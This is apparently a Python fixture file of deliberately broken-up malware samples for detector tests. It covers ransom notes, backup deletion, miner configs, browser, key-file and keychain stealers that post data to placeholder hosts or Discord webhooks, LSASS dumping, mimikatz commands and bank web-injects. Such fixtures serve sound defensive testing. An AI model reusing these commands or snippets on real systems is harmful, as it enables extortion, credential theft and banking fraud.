"""Text fixtures: ransom, mining, theft and bank fraud."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "ransom_note": inert(
        r"""All yo·ur fi·les ha·ve be·en encr·ypted. To get the decry·ption key, se·nd 1 bit·coin.
Down·load Tor Bro·wser and op·en ht·tp://harm·less.on·ion. Do not ren·ame the fi·les.
"""
    ),
    "ransom_note_leak": inert(
        r"""We ha·ve al·so downl·oaded yo·ur da·ta. If you do not pay, it wi·ll be publ·ished in 3 da·ys on our ·
bl·og.
Use Tor Bro·wser to nego·tiate.
"""
    ),
    "ransom_deletes_backups": inert(
        r"""vssa·dmin.exe del·ete sha·dows /all /qu·iet & bcd·edit /set {def·ault} recover·yenabled no
"""
    ),
    "ransom_stops_virtual_machines": inert(
        r"""for v in $(esx·cli vm pro·cess li·st | gr·ep Wo·rld); do esx·cli vm pro·cess ki·ll --ty·pe=fo·rce -w·
 $v; do·ne
no·hup ./enc·rypt /vm·fs/vol·umes/*.vm·dk
"""
    ),
    "ransom_encrypting_script": inert(
        r"""imp·ort os
fr·om crypto·graphy.fer·net imp·ort Fer·net
for ro·ot, _, na·mes in os.wa·lk("/ho·me"):
    f = Fer·net(key); os.rem·ove(na·me)
op·en("HOW_TO_DEC·RYPT.txt", "w")
"""
    ),
    "miner_xmrig_config": inert(
        r"""{"al·go": "rx/0", "don·ate-le·vel": 1, "po·ols": [{"url": "po·ol.exa·mple.inv·alid:33·33", "us·er": ·
"4harmless0har·mless0harmless"}]}
"""
    ),
    "miner_command_line": inert(
        r"""./mi·ner -o str·atum+tcp://po·ol.exa·mple.inv·alid:33·33 -u 4harmless0harm·less0harmless0 -p x
"""
    ),
    "miner_kills_rivals": inert(
        r"""pk·ill -f kin·sing; pk·ill -f kdevt·mpfsi; pk·ill -f xm·rig; cu·rl ht·tp://exa·mple.inv·alid/x
"""
    ),
    "miner_web_page": inert("<scr·ipt>var m = new Coin·Hive.Anon·ymous('no·ne'); m.st·art();</scr·ipt>"),
    "miner_systemd_unit": inert(
        r"""[Ser·vice]
Exec·Start=/opt/x/xm·rig --con·fig=/opt/x/c.js·on
"""
    ),
    "stealer_browser_script": inert(
        r"""imp·ort win32·crypt, requ·ests, os
p = os.env·iron["LOCALA·PPDATA"] + "\\Goo·gle\\Chr·ome\\Us·er Da·ta\\Def·ault\\Lo·gin Da·ta"
win32·crypt.CryptUnpr·otectData(v)
requ·ests.po·st("ht·tps://dis·cord.com/api/webh·ooks/0/no·ne", fi·les={"f": p})
"""
    ),
    "stealer_chat_tokens": inert(
        r"""pa·th = roa·ming + "\\dis·cord\\Lo·cal Sto·rage\\lev·eldb"
pat·tern = r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}"
ho·ok = "ht·tps://dis·cord.com/api/webh·ooks/0/no·ne"
"""
    ),
    "stealer_key_files_script": inert(
        r"""tar cz ~/.ssh/id_rsa ~/.aws/crede·ntials ~/.ku·be/con·fig > /tmp/k; cu·rl -F "f=@/tmp/k" ht·tps://ex·
a·mple.inv·alid/up
"""
    ),
    "stealer_environment": inert(
        r"""imp·ort os, requ·ests
requ·ests.po·st("ht·tps://exa·mple.inv·alid/e", js·on=di·ct(os.env·iron))
"""
    ),
    "stealer_clipboard_wallets": inert(
        r"""imp·ort re, pype·rclip
btc = re.com·pile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"); eth = re.com·pile(r"^0x[a-fA-F0-9]{40}$")
if btc.ma·tch(pype·rclip.pa·ste()): pype·rclip.co·py("no·ne")
"""
    ),
    "stealer_python_keylogger": inert(
        r"""fr·om pyn·put imp·ort keyb·oard
imp·ort smt·plib
def on_pr·ess(key): log.app·end(key)
wi·th keyb·oard.List·ener(on_pr·ess=on_pr·ess) as l: l.jo·in()
smt·plib.SM·TP("ma·il.exa·mple.inv·alid")
"""
    ),
    "stealer_dumps_lsass": inert(
        r"""rund·ll32.exe C:\win·dows\syst·em32\com·svcs.dll, Mini·Dump 624 C:\a.dmp fu·ll
"""
    ),
    "stealer_logon_secrets": inert(
        r"""priv·ilege::de·bug
seku·rlsa::logonpa·sswords
lsa·dump::sam
"""
    ),
    "stealer_saves_hives": inert(
        r"""reg sa·ve hk·lm\sam sam.hiv
reg sa·ve hk·lm\sys·tem sys·tem.hiv
"""
    ),
    "stealer_macos_dialog": inert(
        r"""osas·cript -e 'dis·play dia·log "Pass·word for sett·ings" def·ault ans·wer "" wi·th hid·den ans·wer'
cp ~/Lib·rary/Keyc·hains/lo·gin.keyc·hain-db /tmp/k; cu·rl -T /tmp/k ht·tp://exa·mple.inv·alid
"""
    ),
    "stealer_wifi_passwords": inert(
        r"""for p in na·mes:
    out = run("ne·tsh wl·an sh·ow pro·file na·me=x key=cl·ear")
requ·ests.po·st("ht·tp://exa·mple.inv·alid", out)
"""
    ),
    "webinject_blocks": inert(
        r"""set_url ht·tps://onl·ine.exa·mple.inv·alid/lo·gin* GP
da·ta_bef·ore
<bo·dy>
da·ta_end
da·ta_inj·ect
<p>harm·less</p>
da·ta_end
da·ta_af·ter
</bo·dy>
da·ta_end
"""
    ),
    "webinject_json": inert(
        r"""{"set_url": "ht·tps://onl·ine.ba·nk.exa·mple.inv·alid/*", "da·ta_bef·ore": "<bo·dy>", "da·ta_inj·ect":
"<scr·ipt src=/x?id=%BO·TID%></scr·ipt>", "da·ta_af·ter": "</bo·dy>"}
"""
    ),
    "webinject_xml": inert(
        r"""<sl·ist><di·nj><lm>ht·tps://onl·ine.exa·mple.inv·alid/*</lm><hl>192.0.2.7:443</hl></di·nj></sl·ist>
"""
    ),
    "webinject_script": inert(
        r"""var bot_id = "%BOT·UID%"; docu·ment.bo·dy.st·yle.dis·play = "no·ne";
var v = docu·ment.getElem·entById("pass·word").va·lue; new Im·age().src = "/ga·te.php?acc·ount=" + v;
"""
    ),
    "proxy_script_redirects_banks": inert(
        r"""func·tion FindPro·xyForURL(url, ho·st) {
  if (shExp·Match(ho·st, "*sant·ander*") || shExp·Match(ho·st, "*brad·esco*") || shExp·Match(ho·st, ·
"*it·au*"))
    ret·urn "PR·OXY pr·oxy.exa·mple.inv·alid:80·80";
  ret·urn "DIR·ECT"; }
"""
    ),
    "hosts_file_redirects_banks": inert(
        r"""203.0.113.9 www.examp·lebank.com
203.0.113.9 onl·ine.othe·rbank.com
203.0.113.9 www.thir·dbank.co.uk
"""
    ),
}
